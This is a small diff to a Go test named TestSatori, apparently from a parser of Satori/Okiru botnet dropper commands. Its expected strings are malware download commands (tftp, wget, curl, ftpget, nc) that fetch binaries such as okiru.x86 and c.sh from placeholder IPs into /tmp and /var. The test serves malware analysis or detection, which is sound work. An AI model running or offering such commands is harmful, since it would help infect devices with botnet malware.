@@ -259,7 +259,8 @@ func TestSatori(t *testing.T) {
 	}
 	want := []string{
 		"tftp tftp://198.51.100.20:69/okiru.mips /tmp/.okiru",
-		"wget http://198.51.100.20/bins/okiru.x86 ",
+		// sh -c runs its text: wget saw its -O.
+		"wget http://198.51.100.20/bins/okiru.x86 /tmp/.o",
 		"curl http://198.51.100.20/c.sh /tmp/x",
 		"ftpget ftp://anon:pw@198.51.100.21/pub/f.bin /var/f.bin",
 		"nc tcp://198.51.100.22:4444 /var/n.bin",
